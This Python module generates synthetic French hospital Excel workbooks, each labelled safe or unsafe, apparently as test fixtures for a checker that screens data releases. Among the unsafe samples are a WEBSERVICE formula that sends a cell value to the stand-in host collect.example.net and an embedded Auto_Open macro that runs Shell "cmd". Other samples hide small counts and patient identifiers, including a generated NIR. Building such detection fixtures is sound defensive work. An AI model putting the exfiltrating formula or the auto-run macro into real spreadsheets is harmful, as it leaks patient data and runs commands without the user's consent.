"""Excel workbooks."""

import zipfile

from .kit import book, ipp, nir, some


def monthly(r, n, fac=0.1):
    return [round(n * r.uniform(1 - fac, 1 + fac)) for _ in range(12)]


MOIS = ["janv.", "févr.", "mars", "avril", "mai", "juin", "juil.", "août", "sept.", "oct.", "nov.", "déc."]


def write(shelf):
    r = shelf.random("m04")
    # hidden format
    rows = [["Service", "Séjours", "Décès", "Taux"]]
    for s in ["Cardiologie", "Pneumologie", "Gastro-entérologie", "Neurologie", "Néphrologie", "Médecine interne"]:
        n = r.randint(900, 2600)
        d = some(r, n, 0.035)
        rows.append([s, n, d, round(d / n, 4)])
    wb = book({"Mortalité": rows})
    ws = wb.active
    ws["C6"] = 4
    ws["D6"] = round(4 / ws["B6"].value, 4)
    ws["C6"].number_format = '"≥ 10"'
    for i in range(2, 8):
        ws.cell(i, 4).number_format = "0.0%"
    ws["D6"].number_format = ";;;"
    wb.save(
        shelf.unsafe(
            "pilotage/mortalite_services.xlsx",
            "a cell format hides a small count",
            "Mortalité!C6 is 4, displayed '≥ 10'",
            "Mortalité hospitalière par service.",
            "séjours de médecine 2022",
        )
    )
    rows2 = [["Service", "Séjours", "Réadmissions 30 j", "Taux"]]
    for s in ["Orthopédie", "Urologie", "Viscéral", "Vasculaire", "ORL", "Gynécologie", "Neurochirurgie"]:
        n = r.randint(800, 2600)
        d = some(r, n, 0.07)
        rows2.append([s, n, d, f"=C{len(rows2) + 1}/B{len(rows2) + 1}"])
    rows2.append(["Total", "=SUM(B2:B8)", "=SUM(C2:C8)", "=C9/B9"])
    wb = book({"Réadmissions": rows2})
    for i in range(2, 10):
        wb.active.cell(i, 4).number_format = "0.0%"
    wb.active.freeze_panes = "B2"
    wb.save(
        shelf.safe(
            "pilotage/readmissions.xlsx",
            "formulas (sums, ratios), no danger in them",
            "Réadmissions à 30 jours par service de chirurgie.",
            "séjours de chirurgie 2022",
        )
    )
    # hidden sheet row level
    wb = book(
        {
            "Synthèse": [
                ["Groupe", "n", "CRP médiane", "Q1", "Q3"],
                ["Antibiotique court", 312, 41, 19, 88],
                ["Antibiotique long", 298, 44, 20, 91],
            ],
            "data": [["id", "age", "sexe", "crp", "duree_atb"]]
            + [
                [f"P{i:04d}", r.randint(19, 89), r.choice("HF"), r.randint(3, 320), r.choice([5, 7, 10, 14])]
                for i in range(1, 611)
            ],
        }
    )
    wb["data"].sheet_state = "hidden"
    wb.save(
        shelf.unsafe(
            "infectio/duree_atb.xlsx",
            "a hidden sheet with a row per patient",
            "sheet data (hidden)",
            "CRP médiane par durée d'antibiothérapie.",
            "610 pyélonéphrites",
        )
    )
    wb = book(
        {
            "Effectifs": [["Classe ATC", "Prescriptions 2022", "Prescriptions 2023"]]
            + [
                [c, r.randint(400, 9000), r.randint(400, 9000)]
                for c in ["J01C", "J01D", "J01F", "J01M", "J01X", "J02A"]
            ],
            "calc": [["patient", "dose_jour"]] + [[i, r.randint(1, 9) / 2] for i in range(1, 60)],
        }
    )
    wb["calc"].sheet_state = "veryHidden"
    wb.save(
        shelf.unsafe(
            "pharma/consommation_atb.xlsx",
            "a very hidden sheet with a row per patient",
            "sheet calc (veryHidden)",
            "Consommation d'antibiotiques par classe.",
            "prescriptions hospitalières 2022-2023",
        )
    )
    wb = book(
        {
            "Consommation": [["Classe ATC", "DDJ/1000 JH 2021", "DDJ/1000 JH 2022", "DDJ/1000 JH 2023", "Évolution"]]
            + [
                [c, a, b, d, f"{100 * (d / a - 1):+.1f} %".replace(".", ",")]
                for c, a, b, d in [
                    ("J01C", 212.4, 208.1, 201.7),
                    ("J01D", 88.2, 90.3, 93.4),
                    ("J01F", 31.5, 29.8, 28.9),
                    ("J01M", 35.1, 31.2, 27.6),
                    ("J01X", 22.8, 24.4, 25.1),
                    ("J02A", 9.7, 9.1, 9.3),
                ]
            ],
            "Définitions": [
                ["Terme", "Sens"],
                ["DDJ", "Dose définie journalière (OMS)"],
                ["JH", "Journée d'hospitalisation"],
                ["J01F", "Macrolides et lincosamides"],
            ],
        }
    )
    wb.save(
        shelf.safe(
            "pharma/ddj_atc.xlsx",
            "small rates in doses, not in persons",
            "Consommation d'antibiotiques en DDJ.",
            "214 000 journées d'hospitalisation par an",
        )
    )
    # hidden rows, hidden column
    rows = [["Diagnostic", "Code CIM-10", "Séjours"]] + [
        [a, b, r.randint(60, 900)]
        for a, b in [
            ("Lupus", "M32"),
            ("Sclérodermie", "M34"),
            ("Vascularite", "M31"),
            ("Gougerot", "M35.0"),
            ("Sarcoïdose", "D86"),
            ("Behçet", "M35.2"),
        ]
    ]
    rows[4:4] = [["Still", "M06.1", 6], ["Polychondrite", "M94.1", 2]]
    wb = book({"Diagnostics": rows})
    wb.active.row_dimensions[5].hidden = wb.active.row_dimensions[6].hidden = True
    wb.save(
        shelf.unsafe(
            "interne/diagnostics_rares.xlsx",
            "hidden rows with small counts",
            "rows 5 and 6",
            "Principaux diagnostics de la file active.",
            "file active de médecine interne 2023",
        )
    )
    rows = [["UF", "Passages", "Durée médiane (min)", "ref"]] + [
        [u, r.randint(300, 4000), r.randint(120, 320), ipp(r)]
        for u in ["Box adultes", "Filière courte", "Traumatologie", "SAUV", "UHCD", "Gériatrie"]
    ]
    wb = book({"Délais": rows})
    wb.active.column_dimensions["D"].hidden = True
    wb.save(
        shelf.unsafe(
            "urgences/delais_filieres.xlsx",
            "a hidden column with patients' numbers (IPP)",
            "column D",
            "Délais de passage par filière.",
            "passages aux urgences du 1er semestre 2023",
        )
    )
    # comment
    from openpyxl.comments import Comment

    m = monthly(r, 160)
    wb = book(
        {"2023": [["Mois", "Greffes évaluées"], *[[a, b] for a, b in zip(MOIS, m, strict=True)], ["Total", sum(m)]]}
    )
    wb.active["B4"].comment = Comment(f"vérifier le dossier de Mme Bertrand Odile, NIR {nir(r)}", "")
    wb.save(
        shelf.unsafe(
            "greffe/activite_mensuelle.xlsx",
            "a cell comment with a patient's name and NIR",
            "comment of B4",
            "Activité mensuelle de la consultation de pré-greffe.",
            "consultations 2023",
        )
    )
    m, m2 = monthly(r, 240), monthly(r, 265)
    wb = book(
        {
            "Consultations": [
                ["Mois", 2022, 2023, "Écart (%)"],
                *[[a, b, c, round(100 * (c / b - 1), 1)] for a, b, c in zip(MOIS, m, m2, strict=True)],
                ["Total", sum(m), sum(m2), round(100 * (sum(m2) / sum(m) - 1), 1)],
            ]
        }
    )
    wb.active["D1"].comment = Comment("Écart relatif 2023 / 2022, en %. Arrondi à une décimale.", "")
    wb.save(
        shelf.safe(
            "greffe/consultations_2022_2023.xlsx",
            "a harmless cell comment, small percentages of change",
            "Consultations mensuelles, deux années.",
            "consultations de néphrologie 2022-2023",
        )
    )
    # transposed row level
    n = 46
    wb = book(
        {
            "Profil": [
                ["variable", *[f"S{i:02d}" for i in range(1, n + 1)]],
                ["âge", *[r.randint(18, 84) for _ in range(n)]],
                ["sexe", *[r.choice("MF") for _ in range(n)]],
                ["IMC", *[round(r.gauss(26, 4), 1) for _ in range(n)]],
                ["HbA1c", *[round(r.gauss(7.6, 1), 1) for _ in range(n)]],
                ["pompe", *[r.choice(["oui", "non"]) for _ in range(n)]],
            ]
        }
    )
    wb.save(
        shelf.unsafe(
            "diabeto/profil_capteurs.xlsx",
            "row-level data laid out in columns",
            "one column per subject S01-S46",
            "Profil de l'échantillon porteur de capteur.",
            "46 patients diabétiques de type 1",
        )
    )
    ns = [366, 299, 248, 316, 161, 149, 174, 148, 212, 171]
    fem, pump = [some(r, n, 0.5) for n in ns], [some(r, n, 0.38) for n in ns]
    wb = book(
        {
            "Profil": [
                ["variable", *[f"Centre {c}" for c in "ABCDEFGHIJ"]],
                ["n", *ns],
                ["âge médian", *[r.randint(39, 61) for _ in ns]],
                ["femmes (%)", *[round(100 * k / n, 1) for k, n in zip(fem, ns, strict=True)]],
                ["IMC médian", *[round(r.gauss(26, 1), 1) for _ in ns]],
                ["HbA1c médiane", *[round(r.gauss(7.6, 0.3), 1) for _ in ns]],
                ["pompe (%)", *[round(100 * k / n, 1) for k, n in zip(pump, ns, strict=True)]],
            ]
        }
    )
    wb.save(
        shelf.safe(
            "diabeto/profil_centres.xlsx",
            "one column per centre, HbA1c medians",
            "Indicateurs par centre, dix centres.",
            "2 244 patients diabétiques de type 1, dix centres",
        )
    )
    # dominance
    wb = book(
        {
            "MIG": [
                ["Groupe", "Séjours", "Coût total (€)", "Part du séjour le plus coûteux"],
                ["Brûlés", 41, 1_204_300, "23,4 %"],
                ["Hémophilie", 14, 926_800, "87,7 %"],
                ["Polytraumatisés", 66, 1_890_100, "11,2 %"],
                ["Greffe de moelle", 58, 4_410_700, "5,9 %"],
            ]
        }
    )
    wb.save(
        shelf.unsafe(
            "dim/couts_extremes.xlsx",
            "one contributor at 85 % or more of a sum",
            "Hémophilie: 87,7 %",
            "Coûts totaux par groupe de séjours.",
            "179 séjours très coûteux, 2022",
        )
    )
    wb = book(
        {
            "Coûts": [
                ["Racine GHM", "Séjours", "Coût total (k€)", "Coût médian (€)", "Part du plus gros contributeur"],
                *[
                    [
                        g,
                        n := r.randint(60, 900),
                        round(n * (m := r.randint(2500, 21000)) * 1.17 / 1000),
                        m,
                        f"{r.uniform(1.6, 6):.1f} %".replace(".", ","),
                    ]
                    for g in ["08C24", "08C27", "05K06", "04M05", "01M30", "06C04", "27C02", "15M05"]
                ],
            ]
        }
    )
    wb.save(
        shelf.safe(
            "dim/couts_ghm.xlsx",
            "GHM codes, a largest contributor of a few per cent",
            "Coûts par racine de GHM avec contrôle de dominance.",
            "séjours MCO valorisés 2022",
        )
    )
    # formula injection
    wb = book(
        {
            "Export": [
                ["Région", "Patients", "Lien"],
                ["Nord", 340, "voir"],
                ["Sud", 412, "voir"],
                ["Est", 288, "voir"],
            ]
        }
    )
    wb.active["C2"] = '=WEBSERVICE("http://collect.example.net/r?x="&B2)'
    wb.save(
        shelf.unsafe(
            "transversal/regions.xlsx",
            "a formula that sends data out",
            "Export!C2 WEBSERVICE",
            "Patients par région de résidence.",
            "1 040 patients",
        )
    )
    # macro inside xlsx
    p = shelf.unsafe(
        "dim/tableau_bord.xlsx",
        "a macro project inside",
        "xl/vbaProject.bin",
        "Tableau de bord mensuel des séjours.",
        "séjours 2023",
    )
    book({"TDB": [["Mois", "Séjours"], *[[a, b] for a, b in zip(MOIS, monthly(r, 900), strict=True)]]}).save(p)
    with zipfile.ZipFile(p, "a") as z:
        z.writestr(
            "xl/vbaProject.bin",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
            + b"\x00" * 480
            + b'Attribute VB_Name = "Module1"\r\nSub Auto_Open()\r\nShell "cmd"\r\nEnd Sub',
        )
    # truncated
    p = shelf.unsafe(
        "dim/activite_ghs.xlsx",
        "unreadable: the workbook is cut short",
        "the whole file",
        "Activité par GHS.",
        "séjours 2023",
    )
    book({"GHS": [["GHS", "Séjours"], *[[r.randint(1000, 9000), r.randint(20, 900)] for _ in range(300)]]}).save(p)
    p.write_bytes(p.read_bytes()[:4200])
    # chart
    from openpyxl.chart import BarChart, Reference

    rows = [
        ["Année", "Séjours", "Durée moyenne"],
        *[
            [y, n, d]
            for y, n, d in [
                (2017, 4012, 6.4),
                (2018, 4180, 6.3),
                (2019, 4251, 6.1),
                (2020, 3302, 7.2),
                (2021, 3610, 6.9),
                (2022, 3987, 6.2),
                (2023, 4105, 6.0),
            ]
        ],
    ]
    wb = book({"Séjours": rows})
    ch = BarChart()
    ch.add_data(Reference(wb.active, min_col=2, min_row=1, max_row=8), titles_from_data=True)
    ch.set_categories(Reference(wb.active, min_col=1, min_row=2, max_row=8))
    wb.active.add_chart(ch, "F2")
    wb.save(
        shelf.safe(
            "dim/sejours_annees.xlsx",
            "years, mean stays of 6 to 7 days, a chart",
            "Séjours par année avec graphique.",
            "27 447 séjours 2017-2023",
        )
    )
    # ages by single year
    wb = book(
        {
            "Pyramide": [
                ["Âge", "Patients"],
                *[
                    [a, b]
                    for a, b in zip(
                        range(80, 95), [96, 91, 90, 82, 77, 74, 66, 61, 52, 47, 38, 33, 24, 19, 13], strict=True
                    )
                ],
            ]
        }
    )
    wb.save(
        shelf.unsafe(
            "geriatrie/pyramide_80_94.xlsx",
            "single ages from 90",
            "rows 90 to 94",
            "Patients par âge exact.",
            "863 patients de 80 à 94 ans",
        )
    )
    wb = book(
        {
            "Pyramide": [
                ["Âge", "Femmes", "Hommes", "Ensemble"],
                *[
                    [a, f, m, f + m]
                    for a, f, m in [
                        (
                            "75-79",
                            211,
                            188,
                        ),
                        ("80-84", 246, 170),
                        ("85-89", 220, 121),
                        ("≥ 90", 141, 48),
                    ]
                ],
                ["Total", 818, 527, 1345],
            ]
        }
    )
    wb.save(
        shelf.safe(
            "geriatrie/pyramide_classes.xlsx",
            "ages of 90 and more in one open class",
            "Patients par classe d'âge et sexe.",
            "1 345 patients de 75 ans et plus",
        )
    )
    # subtraction in sheets
    wb = book(
        {
            "Total": [["Bloc", "Interventions"], ["Ortho", 1820], ["Digestif", 1433], ["Uro", 1207]],
            "Programmées": [["Bloc", "Interventions"], ["Ortho", 1402], ["Digestif", 1201], ["Uro", 1203]],
        }
    )
    wb.save(
        shelf.unsafe(
            "bloc/interventions_programmees.xlsx",
            "subtraction between two sheets",
            "Uro: 1207 - 1203 = 4 urgent",
            "Interventions par bloc, toutes et programmées.",
            "4 460 interventions 2022",
        )
    )
    wb = book(
        {
            "Total": [
                ["Salle", "Interventions", "Taux d'occupation", "Salles"],
                ["Ortho", 1911, "81 %", 4],
                ["Digestif", 1502, "77 %", 3],
                ["Uro", 1290, "69 %", 2],
                ["ORL", 988, "64 %", 2],
            ],
            "Urgences": [
                ["Bloc", "Urgences différées", "Urgences immédiates"],
                ["Ortho", 302, 118],
                ["Digestif", 288, 164],
                ["Uro", 91, 43],
                ["ORL", 77, 31],
            ],
        }
    )
    wb.save(
        shelf.safe(
            "bloc/occupation_salles.xlsx",
            "counts of theatres from 2 to 4",
            "Occupation des salles et urgences.",
            "5 691 interventions 2023",
        )
    )
